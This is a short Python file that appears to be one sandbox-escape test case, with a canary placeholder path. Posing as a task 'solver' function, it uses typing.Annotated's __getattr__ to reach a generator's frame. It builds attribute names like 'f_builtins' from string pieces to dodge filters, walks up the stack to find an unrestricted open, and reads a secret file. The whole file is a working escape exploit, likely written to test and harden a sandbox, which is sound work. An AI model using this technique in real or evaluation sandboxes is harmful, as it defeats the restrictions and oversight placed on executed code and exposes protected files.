# z01_annotated_getattr [escape]: typing.Annotated[x, 1].__getattr__ reads any attribute of any object by a computed name
import typing


def read(obj, name):
    return typing.Annotated[obj, 1].__getattr__(name)


def gen():
    yield 1


def solver(a, b):
    g = gen()
    next(g)
    frame = read(g, "gi_" + "frame")
    while True:
        space = read(frame, "f_" + "builtins")
        if "open" in space and "not allowed" not in str(space["open"]):
            try:
                return space["open"]("@CANARY@/secret.txt").read()
            except NameError:
                pass
        frame = read(frame, "f_" + "back")
